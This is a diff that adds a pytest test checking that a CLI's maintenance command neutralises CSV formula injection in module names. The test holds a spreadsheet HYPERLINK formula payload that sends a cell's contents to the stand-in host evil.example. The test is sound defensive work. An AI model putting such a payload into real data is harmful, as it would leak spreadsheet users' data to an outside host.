@@ -80,3 +80,21 @@ def test_release_download__refuses_file_names_that_leave_dir(cli, repo, tmp_path
         assert len(r.stderr.strip().splitlines()) == 1
         assert not (tmp_path / "escaped.txt").exists() and not (tmp_path / "out" / "escaped.txt").exists()  # fmt: skip
         assert not out.exists() or not any(out.iterdir())
+
+
+def test_maintenance__module_text_cannot_start_a_formula_in_csv(cli, repo):
+    """A module author's name lands in module_registry.csv: it must not run as a formula."""
+    spec_path = repo / "modules" / "001" / "module.yml"
+    spec = json.loads(spec_path.read_text())
+    spec["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    spec_path.write_text(json.dumps(spec))
+    registry = repo / "maintenance-state" / "ids" / "module_registry.csv"
+    registry.write_text(registry.read_text().replace("001,02,Gen,", "001,02,,"))  # take the spec's
+    r = cli("maintenance", cwd=repo)
+    assert r.returncode == 0, r.stdout + r.stderr
+    import csv
+
+    with (repo / "maintenance-state" / "ids" / "module_registry.csv").open(newline="") as fh:
+        names = {row["module_id"]: row["name"] for row in csv.DictReader(fh)}
+    assert names["001"] == "'" + spec["name"]
+    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names.values())
